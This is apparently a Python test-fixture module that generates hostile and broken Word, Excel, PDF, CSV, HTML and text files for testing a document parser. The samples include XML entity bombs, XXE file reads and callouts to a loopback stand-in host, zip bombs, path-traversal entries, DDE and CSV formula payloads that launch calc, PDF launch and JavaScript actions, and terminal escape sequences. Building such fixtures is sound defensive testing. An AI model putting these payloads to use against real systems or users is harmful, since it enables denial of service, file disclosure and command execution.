"""Files that harm, or that are broken: each made by a small function, none kept as bytes.

What a file of each kind looks like when it is sound stands first; what follows is made from it.
"""

from __future__ import annotations

import functools
import io
import struct
import zipfile
import zlib
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable, Iterable

FINDING = "the timeliness of initial health assessments for children who come into care."
HEADING = "What needs to improve?"
ESCAPES = "\x1b[2J\x1b]0;owned\x07\x9b31m\x08\x08 \u202etxet\u2066\u200f"
"""What would drive a terminal, or turn what stands on it round."""

HOME = "127.0.0.1:9"
"""Where what would fetch something, or send something out, is told to go."""

# Packages


def package(parts: dict[str, bytes | str], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Make a package of some parts."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", method) as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return stream.getvalue()


def unpacked(content: bytes) -> dict[str, bytes | str]:
    """Give the parts of a package."""
    with zipfile.ZipFile(io.BytesIO(content)) as held:
        return {name: held.read(name) for name in held.namelist()}


def with_parts(sound: Callable[[], bytes], **changed: bytes | str) -> bytes:
    """Make a sound package again with some parts changed, named by the end of their names."""
    parts = unpacked(sound())
    for ending, content in changed.items():
        part = next((name for name in parts if _flat(name).endswith(ending)), ending)
        parts[part] = content
    return package(parts)


def _flat(name: str) -> str:
    return name.rpartition("/")[2].replace(".", "_")


@functools.cache
def docx() -> bytes:
    """Make a sound Word document: a list of what must improve, and a table that is a plan."""
    from docx import Document

    made = Document()
    made.add_heading(HEADING, 2)
    made.add_paragraph(FINDING, style="List Bullet")
    table = made.add_table(2, 3)
    for row, values in enumerate((("Ref", "Action", "By when"), ("1", "Write it", "31/03/2014"))):
        for column, value in enumerate(values):
            table.cell(row, column).text = value
    stream = io.BytesIO()
    made.save(stream)
    return stream.getvalue()


@functools.cache
def xlsx() -> bytes:
    """Make a sound workbook: a plan of one action."""
    from xlsxwriter import Workbook  # type: ignore[import-untyped]

    stream = io.BytesIO()
    with Workbook(stream, {"in_memory": True}) as book:
        sheet = book.add_worksheet("Plan")
        sheet.write_row(0, 0, ("Ref", "Recommendation", "Action", "Lead", "By when"))
        sheet.write_row(1, 0, ("1", FINDING, "Write it", "Head of HR", "31/03/2014"))
    return stream.getvalue()


W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
PARAGRAPH = "<w:p><w:r><w:t>{}</w:t></w:r></w:p>"


def document(body: str, before: str = "", encoding: str = "UTF-8") -> bytes:
    """Give the main part of a Word document."""
    head = f'<?xml version="1.0" encoding="{encoding}"?>{before}'
    return f"{head}<w:document {W}><w:body>{body}</w:body></w:document>".encode(encoding)


def docx_of(body: str, before: str = "", encoding: str = "UTF-8") -> bytes:
    """Make a Word document with another body."""
    return with_parts(docx, document_xml=document(body, before, encoding))


def sheet(rows: str, more: str = "", dimension: str = "A1") -> str:
    """Give a sheet of a workbook."""
    return (
        f'<?xml version="1.0"?><worksheet {S}><dimension ref="{dimension}"/>'
        f"<sheetData>{rows}</sheetData>{more}</worksheet>"
    )


def xlsx_of(rows: str, more: str = "", dimension: str = "A1") -> bytes:
    """Make a workbook with another sheet."""
    return with_parts(xlsx, sheet1_xml=sheet(rows, more, dimension))


def cell(address: str, text: str = "x") -> str:
    """Give a cell that holds its own text."""
    return f'<c r="{address}" t="inlineStr"><is><t>{text}</t></is></c>'


def laughs(depth: int = 9, width: int = 10) -> str:
    """Declare an entity that stands for a thousand million others."""
    lines = ['<!ENTITY l0 "ha">']
    lines += [f'<!ENTITY l{each} "{f"&l{each - 1};" * width}">' for each in range(1, depth + 1)]
    return f"<!DOCTYPE x [{''.join(lines)}]>"


def docx_that_laughs() -> bytes:
    return docx_of(PARAGRAPH.format("&l9;"), laughs())


def docx_that_repeats_a_long_entity() -> bytes:
    return docx_of(
        PARAGRAPH.format("&long;" * 50_000), f'<!DOCTYPE x [<!ENTITY long "{"a" * 50_000}">]>'
    )


def docx_that_names_a_file_of_ours() -> bytes:
    declared = '<!DOCTYPE x [<!ENTITY theirs SYSTEM "file:///etc/hostname">]>'
    return docx_of(PARAGRAPH.format("&theirs;"), declared)


def docx_that_calls_home() -> bytes:
    declared = f'<!DOCTYPE x [<!ENTITY % e SYSTEM "http://{HOME}/x.dtd"> %e;]>'
    return docx_of(PARAGRAPH.format("x"), declared)


def docx_that_laughs_in_wide_letters() -> bytes:
    return docx_of(PARAGRAPH.format("&l9;"), laughs(), "UTF-16")


def docx_that_laughs_in_odd_letters() -> bytes:
    return docx_of(PARAGRAPH.format("&l9;"), laughs(), "UTF-7")


def docx_whose_main_part_is_a_picture() -> bytes:
    """Hide the main part, which declares entities, where nobody looks for one."""
    parts = unpacked(docx_that_laughs())
    parts["word/media/image1.svg"] = parts.pop("word/document.xml")
    for name in ("[Content_Types].xml", "_rels/.rels"):
        text = parts[name]
        assert isinstance(text, bytes)
        parts[name] = text.replace(b"word/document.xml", b"word/media/image1.svg")
    return package(parts)


def xlsx_that_laughs() -> bytes:
    strings = f"{laughs()}<sst {S}><si><t>&l9;</t></si></sst>"
    return with_parts(xlsx, sharedStrings_xml=strings)


def docx_of_150_mb() -> bytes:
    return docx_of(PARAGRAPH.format(" " * 150_000_000))


def xlsx_of_150_mb() -> bytes:
    return with_parts(xlsx, sheet1_xml=sheet("<row/>" * 25_000_000))


def xlsx_of_100_mb_of_strings() -> bytes:
    """Pack only ten to one, as an honest workbook may."""
    noise = b"".join(
        zlib.compress(struct.pack("<I", each)).hex().encode() for each in range(20_000)
    )
    strings = b"<si><t>" + noise + b"</t></si>"
    many = 100_000_000 // len(strings)
    return with_parts(xlsx, sharedStrings_xml=f"<sst {S}>".encode() + strings * many + b"</sst>")


def zip_in_zip() -> bytes:
    """Pack zeros in a package, ten of it in the next, and so on."""
    held = package({"0": b"\0" * 10_000_000})
    for _ in range(4):
        held = package({f"{each}.zip": held for each in range(10)})
    return held


def docx_with_a_bomb_attached() -> bytes:
    return with_parts(docx, **{"word/embeddings/attached.zip": zip_in_zip()})


def zip_of_a_million() -> bytes:
    entry = struct.pack("<4s6H3I5H2I", b"PK\1\2", *[20] * 2, *[0] * 4, *[0] * 3, 1, *[0] * 4, 0, 0)
    count = 1_000_000
    listed = (entry + b"a") * count
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 0xFFFF, 0xFFFF, len(listed), 0, 0)
    return b"PK\3\4" + listed + end


def docx_whose_parts_overlap() -> bytes:
    """Let 1,500 names of the list all point at the same packed bytes."""
    sound = package({"word/document.xml": document(" " * 1_000_000), "a": b""})
    start = sound.index(b"PK\1\2")
    name = b"word/document.xml"
    entry = sound[start : start + 46 + len(name)]
    listed = b"".join(
        entry.replace(name, b"word/d%06d.xml" % each + b"    ") for each in range(1_500)
    )
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 1_500, 1_500, len(listed), start, 0)
    return sound[:start] + listed + end


def _entry_of(content: bytes, name: bytes) -> int:
    """Find a part in the list of a package."""
    at = content.index(b"PK\1\2")
    while content[at + 46 : at + 46 + len(name)] != name:
        at = content.index(b"PK\1\2", at + 1)
    return at


def _patched(content: bytes, at: int, patch: bytes) -> bytes:
    return content[:at] + patch + content[at + len(patch) :]


def docx_that_lies_about_its_size() -> bytes:
    """Say 10 bytes of a part that unpacks to 30 MB, with the sum that 10 bytes would have."""
    sound = docx_of(PARAGRAPH.format(" " * 30_000_000))
    at = _entry_of(sound, b"word/document.xml")
    ten = struct.pack("<I", zlib.crc32(document("")[:10]))
    return _patched(_patched(sound, at + 16, ten), at + 24, struct.pack("<I", 10))


def docx_with_a_wrong_sum() -> bytes:
    sound = docx()
    return _patched(sound, _entry_of(sound, b"word/document.xml") + 16, b"abcd")


def docx_with_a_password() -> bytes:
    """Set the flag of a part that is encrypted as packages do it."""
    sound = docx()
    return _patched(sound, _entry_of(sound, b"word/document.xml") + 8, b"\x01\x00")


def docx_packed_in_an_odd_way() -> bytes:
    return package(unpacked(docx()), zipfile.ZIP_LZMA)


def docx_packed_in_no_known_way() -> bytes:
    sound = docx()
    return _patched(sound, _entry_of(sound, b"word/document.xml") + 10, b"\x62\x00")


def docx_that_climbs_out() -> bytes:
    return with_parts(docx, **{"../../../tmp/evil.xml": "<evil/>", "/etc/evil": "x"})


def docx_with_a_part_twice() -> bytes:
    return with_parts(docx, **{"WORD/document.xml": document("")})


def docx_cut_off() -> bytes:
    return docx()[: len(docx()) // 2]


def docx_of_no_document() -> bytes:
    parts = unpacked(docx())
    del parts["word/document.xml"]
    return package(parts)


def docx_of_no_relations() -> bytes:
    parts = unpacked(docx())
    del parts["_rels/.rels"]
    return package(parts)


def docx_that_is_no_xml() -> bytes:
    return with_parts(docx, document_xml=b"\x00\x01\x02 not xml")


def docx_badly_nested() -> bytes:
    return with_parts(docx, document_xml=document("<w:p><w:r></w:p></w:r>"))


def docx_of_nested_tables() -> bytes:
    opened, closed = "<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"
    return docx_of(opened * 50_000 + PARAGRAPH.format("x") + closed * 50_000)


def docx_nested_200_deep() -> bytes:
    """Nest as deep as the reader of XML lets it."""
    opened, closed = "<w:tbl><w:tr><w:tc>", "<w:p/></w:tc></w:tr></w:tbl>"
    return docx_of(opened * 80 + PARAGRAPH.format("x") + closed * 80)


def docx_of_fields() -> bytes:
    """Put in fields that would start a program, or fetch a picture, in Word."""
    fields = (r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"', r"INCLUDEPICTURE \\nobody\x")
    body = "".join(
        f'<w:p><w:fldSimple w:instr="{each.replace(chr(34), "&quot;")}"/></w:p>' for each in fields
    )
    return docx_of(body + PARAGRAPH.format(FINDING))


def docx_with_a_template_elsewhere() -> bytes:
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/attachedTemplate" Target="http://{HOME}/x.dotm" TargetMode="External"/>'
        "</Relationships>"
    )
    return with_parts(docx, **{"word/_rels/settings.xml.rels": relations})


def docm() -> bytes:
    return with_parts(docx, **{"word/vbaProject.bin": b"\xd0\xcf macro"})


def xlsm() -> bytes:
    return with_parts(xlsx, **{"xl/vbaProject.bin": b"\xd0\xcf macro"})


def xlsx_of_links() -> bytes:
    link = f'<externalLink {S}><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>'
    return with_parts(xlsx, **{"xl/externalLinks/externalLink1.xml": link})


def xlsx_of_two_cells() -> bytes:
    """Put one cell in each of two far corners."""
    return xlsx_of(
        f'<row r="1">{cell("A1")}</row><row r="1048576">{cell("XFD1048576")}</row>',
        dimension="A1:XFD1048576",
    )


def xlsx_that_lies_about_its_extent() -> bytes:
    part = unpacked(xlsx())["xl/worksheets/sheet1.xml"]
    assert isinstance(part, bytes)
    lie = part.replace(b'<dimension ref="A1:E2"/>', b'<dimension ref="A1:XFD1048576"/>')
    return with_parts(xlsx, sheet1_xml=lie)


def xlsx_of_a_million_rows() -> bytes:
    return xlsx_of("".join(f'<row r="{row}">{cell(f"A{row}")}</row>' for row in range(1, 500_000)))


def xlsx_merged_all_over() -> bytes:
    merged = '<mergeCell ref="A1:XFD1048576"/>' * 5_000
    return xlsx_of(
        f'<row r="1">{cell("A1")}</row>', f'<mergeCells count="5000">{merged}</mergeCells>'
    )


def xlsx_of_a_string_that_is_not_there() -> bytes:
    return xlsx_of('<row r="1"><c r="A1" t="s"><v>99999999</v></c></row>')


def xlsx_of_an_impossible_cell() -> bytes:
    return xlsx_of('<row r="99999999999"><c r="ZZZZZZ99999999999"><v>1e999</v></c></row>')


def xlsx_of_an_impossible_day() -> bytes:
    return xlsx_of('<row r="1"><c r="A1" t="d"><v>2026-99-99T99</v></c></row>')


def xlsx_of_no_sheet() -> bytes:
    parts = unpacked(xlsx())
    del parts["xl/worksheets/sheet1.xml"]
    return package(parts)


def xlsx_cut_off() -> bytes:
    return xlsx()[: len(xlsx()) // 2]


def xlsx_of_escapes() -> bytes:
    seen = ESCAPES.encode("ascii", "xmlcharrefreplace").decode()
    for bad in ("\x1b", "\x07", "\x08"):
        seen = seen.replace(bad, f"_x{ord(bad):04X}_")
    return xlsx_of(f'<row r="1">{cell("A1", seen)}{cell("B1", seen)}</row>')


# The old Office, and what else is no document that is read


def old_office(stream: str) -> bytes:
    """Make what has the sign of the old Office and names one stream."""
    sector = stream.encode("utf-16-le").ljust(512, b"\0")
    return bytes.fromhex("d0cf11e0a1b11ae1").ljust(512, b"\0") + sector


def opendocument() -> bytes:
    return package(
        {"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<x/>"},
        zipfile.ZIP_STORED,
    )


# PDF


def pdf(objects: Iterable[bytes], trailer: bytes = b"", before: bytes = b"") -> bytes:
    """Make a PDF of some objects, the first of them its catalogue."""
    made = bytearray(before + b"%PDF-1.7\n")
    places = []
    for number, each in enumerate(objects, 1):
        places.append(len(made))
        made += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    start = len(made)
    made += b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
    made += b"".join(b"%010d 00000 n \n" % place for place in places)
    made += b"trailer\n<</Size %d/Root 1 0 R%s>>\n" % (len(places) + 1, trailer)
    return bytes(made + b"startxref\n%d\n%%%%EOF\n" % start)


def stream(content: bytes, about: bytes = b"") -> bytes:
    """Give an object that holds bytes."""
    return b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(content), about, content)


FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>"
CATALOGUE = b"<</Type/Catalog/Pages 2 0 R>>"
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = (
    b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R"
    b"/Resources<</Font<</F1 5 0 R>>>>>>"
)


def drawn(*lines: str) -> bytes:
    """Give the drawing of some lines of text on a page."""
    shown = "".join(
        f"1 0 0 1 72 {770 - 20 * at} Tm ({line.replace('(', '').replace(')', '')}) Tj "
        for at, line in enumerate(lines)
    )
    return f"BT /F1 11 Tf {shown}ET".encode("latin-1", "replace")


LINES = (HEADING, f"\x95 {FINDING}", "\x95 the quality of plans for children in need.")


def sound_pdf(trailer: bytes = b"", before: bytes = b"", catalogue: bytes = CATALOGUE) -> bytes:
    """Make a sound PDF: one page, with a list of two things that must improve."""
    return pdf([catalogue, PAGES, PAGE, stream(drawn(*LINES)), FONT], trailer, before)


def pdf_of(contents: bytes) -> bytes:
    """Make a PDF with another object for what stands on its page."""
    return pdf([CATALOGUE, PAGES, PAGE, contents, FONT])


def pdf_cut_off() -> bytes:
    return sound_pdf()[:300]


def pdf_of_nothing_else() -> bytes:
    return b"%PDF-1.7\n%%EOF\n"


def pdf_whose_past_is_itself() -> bytes:
    made = sound_pdf()
    place = made.rindex(b"\nxref") + 1
    return sound_pdf(b"/Prev %d" % place)


def pdf_whose_pages_hold_themselves() -> bytes:
    return pdf([CATALOGUE, b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>"])


def pdf_that_says_a_million_pages() -> bytes:
    pages = b"<</Type/Pages/Kids[3 0 R]/Count 2000000000>>"
    return pdf([CATALOGUE, pages, PAGE, stream(drawn(*LINES)), FONT])


def pdf_of_no_pages() -> bytes:
    return pdf([CATALOGUE, b"<</Type/Pages/Kids[]/Count 0>>"])


def pdf_of_100_000_pages() -> bytes:
    kids = b"3 0 R " * 100_000
    pages = b"<</Type/Pages/Kids[" + kids + b"]/Count 100000>>"
    return pdf([CATALOGUE, pages, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>"])


def pdf_of_a_huge_page() -> bytes:
    page = PAGE.replace(b"595 842", b"1e30 99999999999999")
    return pdf([CATALOGUE, PAGES, page, stream(drawn(*LINES)), FONT])


def pdf_flate_bomb() -> bytes:
    """Pack packed spaces: that unpack to 600 MB in two steps."""
    packing, spaces = zlib.compressobj(9), b" " * 1_000_000
    once = b"".join(packing.compress(spaces) for _ in range(600)) + packing.flush()
    return pdf_of(stream(zlib.compress(once, 9), b"/Filter[/FlateDecode/FlateDecode]"))


def pdf_text_bomb() -> bytes:
    """Pack a page of some ten million letters."""
    drawing = b"BT /F1 1 Tf " + b"(spells of words on one page) Tj " * 400_000 + b"ET"
    return pdf_of(stream(zlib.compress(drawing), b"/Filter/FlateDecode"))


def pdf_lzw_bomb() -> bytes:
    """Let each code stand for all that the one before did, and a letter more."""
    codes = [256, 32]
    codes += range(258, 258 + 3_800)
    bits, held, width = 0, 0, 9
    made = bytearray()
    for at, code in enumerate(codes * 1):
        bits, held = (bits << width) | code, held + width
        while held >= 8:
            held -= 8
            made.append((bits >> held) & 0xFF)
            bits &= (1 << held) - 1
        width = 9 if at < 254 else 10 if at < 766 else 11 if at < 1790 else 12
    drawing = zlib.compress(bytes(made) * 500, 9)
    return pdf_of(stream(drawing, b"/Filter[/FlateDecode/LZWDecode]"))


def pdf_whose_drawing_draws_itself() -> bytes:
    about = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 5 0 R>>>>"
    page = PAGE.replace(b"/Font<</F1 5 0 R>>", b"/XObject<</X 5 0 R>>")
    return pdf([CATALOGUE, PAGES, page, stream(b"/X Do /X Do"), stream(b"/X Do /X Do", about)])


def pdf_of_deep_arrays() -> bytes:
    return pdf([CATALOGUE[:-2] + b"/Names " + b"[" * 500_000 + b"]" * 500_000 + b">>", PAGES, PAGE])


def pdf_whose_places_lie() -> bytes:
    made = sound_pdf()
    head, mark, rest = made.rpartition(b"\nxref\n")
    return head + mark + rest.replace(b" 00000 n", b" 00000 n").replace(b"0000000", b"9999999")


def pdf_whose_length_lies() -> bytes:
    return pdf_of(stream(drawn(*LINES)).replace(b"<</Length ", b"<</Length 99999999"))


def pdf_after_junk() -> bytes:
    return sound_pdf(before=b"HTTP/1.1 200 OK\r\nX: y\r\n\r\n")


def pdf_of_actions() -> bytes:
    catalogue = (
        b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F(calc.exe)/Next<</S/URI/URI"
        b"(http://HOME/)>>>>/AA<</WC<</S/JavaScript/JS(app.launchURL('http://HOME'))>>>>>>"
    )
    return sound_pdf(catalogue=catalogue.replace(b"HOME", HOME.encode()))


def pdf_with_an_attachment() -> bytes:
    catalogue = b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(x.exe) 6 0 R]>>>>>>"
    objects = [catalogue, PAGES, PAGE, stream(drawn(*LINES)), FONT]
    return pdf([*objects, b"<</Type/Filespec/F(x.exe)/EF<</F 7 0 R>>>>", stream(b"MZ")])


def pdf_that_is_scanned() -> bytes:
    """Make a page that is one picture, as a scanner does."""
    about = b"/Type/XObject/Subtype/Image/Width 8/Height 8/ColorSpace/DeviceGray/BitsPerComponent 8"
    page = PAGE.replace(b"/Font<</F1 5 0 R>>", b"/XObject<</X 5 0 R>>")
    picture = stream(b"\x80" * 64, about)
    return pdf([CATALOGUE, PAGES, page, stream(b"595 0 0 842 0 0 cm /X Do"), picture])


def pdf_of_escapes() -> bytes:
    to_unicode = (
        b"/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange <00> <FF> "
        b"endcodespacerange 3 beginbfchar <41> <001B> <42> <202E> <43> <009B> endbfchar endcmap"
    )
    font = FONT[:-2] + b"/ToUnicode 6 0 R>>"
    drawing = drawn(HEADING, "\x95 A[2J B the rest C31m of it needs to improve.")
    return pdf([CATALOGUE, PAGES, PAGE, stream(drawing), font, stream(to_unicode)])


def pdf_with_a_password(user: str, owner: str) -> bytes:
    """Encrypt a sound PDF."""
    import pikepdf

    made = io.BytesIO()
    with pikepdf.open(io.BytesIO(sound_pdf())) as held:
        held.save(made, encryption=pikepdf.Encryption(user=user, owner=owner))
    return made.getvalue()


# Texts and pages


def html(body: str) -> bytes:
    """Make a web page."""
    return f"<!doctype html><html><body>{body}</body></html>".encode()


def html_of_a_list(more: str = "") -> bytes:
    """Make a sound page: a heading and a list of one thing."""
    return html(f"<h2>{HEADING}</h2><ul><li>{FINDING}</li></ul>{more}")


def html_nested(tag: str = "div", deep: int = 200_000) -> bytes:
    """Open many elements, and close none."""
    return html(f"<{tag}>" * deep + "x")


def html_of_entities() -> bytes:
    return html("&#1114112;&#x1b;&#xd800;&#0;&" + "a" * 500_000 + ";" + "&amp" * 100_000)


def html_that_fetches() -> bytes:
    return html_of_a_list(
        f"<script>fetch('http://{HOME}')</script><img src=http://{HOME}/x.png>"
        "<iframe src=file:///etc/hostname></iframe><meta http-equiv=refresh content='0;url=//x'>"
        f"<object data='data:text/html;base64,{'QUJD' * 100_000}'></object>"
    )


def html_of_broken_tags() -> bytes:
    return html("<" * 90_000 + "<a " + "x='" * 30_000 + "<!--" * 30_000 + "<![CDATA[" * 20_000)


def text_of_a_list(more: str = "") -> bytes:
    """Make a sound text."""
    return f"{HEADING}\n\n- {FINDING}\n{more}".encode()


def csv_of_a_plan(more: str = "") -> bytes:
    """Make a sound file of commas."""
    head = "Ref,Recommendation,Action,Lead,By when\n"
    return f"{head}1,{FINDING},Write it,Head of HR,31/03/2014\n{more}".encode()


def text_of_one_line() -> bytes:
    return (
        f"{HEADING}\n\n- ".encode()
        + b"words and words, (of which; some) 1.2 need to be read: " * 180_000
    )


def text_of_spaces() -> bytes:
    return f"{HEADING}\n\n- x".encode() + b" " * 3_000_000 + b"x" + b"\t \n" * 500_000 + b"x"


def text_of_dots() -> bytes:
    return f"{HEADING}\n\n1".encode() + b"." * 3_000_000 + b" 1\n" + b"1.2.3." * 100_000


def text_of_brackets() -> bytes:
    return (
        f"{HEADING}\n\n".encode() + b"((((((((((" * 100_000 + b"[[](" * 100_000 + b"**__`" * 100_000
    )


def text_of_one_paragraph() -> bytes:
    return (
        f"{HEADING}\n\n".encode()
        + b"a line that goes on, and which should and need to go on\n" * 100_000
    )


def text_of_one_list(points: int = 100_000) -> bytes:
    listed = "\n- ".join(f"point {number} is to improve" for number in range(points))
    return f"{HEADING}\n\n- {listed}".encode()


def text_of_nested_lists() -> bytes:
    return f"{HEADING}\n\n".encode() + b"".join(b" " * n + b"- point\n" for n in range(2_000))


def text_of_headings() -> bytes:
    return f"{HEADING}\n\n- x is slow\n\n".encode() * 50_000


def text_of_escapes() -> bytes:
    return text_of_a_list(f"- {ESCAPES} is to be improved\n")


def text_in_wide_letters_cut_off() -> bytes:
    return text_of_a_list().decode().encode("utf-16")[:-1]


def text_of_half_surrogates() -> bytes:
    return b"\xff\xfe" + b"\x00\xd8a\x00" * 1_000


def text_of_no_letters_that_are_known() -> bytes:
    return text_of_a_list().replace(b"health", b"\xff\xfe\x81\x8d")


def text_of_data() -> bytes:
    return text_of_a_list() + b"\0"


def text_of_marks() -> bytes:
    """Put a hundred thousand accents on one letter."""
    return text_of_a_list("- e" + "\u0301" * 100_000 + "\n")


def csv_of_data() -> bytes:
    return csv_of_a_plan("2,\0,x\n")


def csv_with_an_open_quote() -> bytes:
    return csv_of_a_plan('2,"never closed,x\n') + b"3,x,y\n" * 1_000


def csv_of_a_long_field() -> bytes:
    return csv_of_a_plan('2,"' + "x" * 10_000_000 + '",y\n')


def csv_of_100_000_columns() -> bytes:
    return csv_of_a_plan("," * 100_000 + "\n")


def csv_of_many_rows() -> bytes:
    return csv_of_a_plan("2,x,y,z,\n" * 1_000_000)


def csv_of_quotes() -> bytes:
    return csv_of_a_plan('"' * 1_000_001)


def csv_of_formulas() -> bytes:
    return csv_of_a_plan("2,=cmd|' /C calc'!A0,@SUM(1),+1,-1\n")


def csv_of_escapes() -> bytes:
    return csv_of_a_plan(f"2,{ESCAPES},{ESCAPES},x,{ESCAPES}\n")


def xlsx_that_lies_about_its_size() -> bytes:
    """Say 10 bytes of a sheet that unpacks to 30 MB, with the sum that 10 bytes would have."""
    rows = "".join(f'<row r="{row}">{cell(f"A{row}")}</row>' for row in range(1, 400_000))
    sound = xlsx_of(rows)
    at = _entry_of(sound, b"xl/worksheets/sheet1.xml")
    ten = struct.pack("<I", zlib.crc32(sheet("")[:10].encode()))
    return _patched(_patched(sound, at + 16, ten), at + 24, struct.pack("<I", 10))
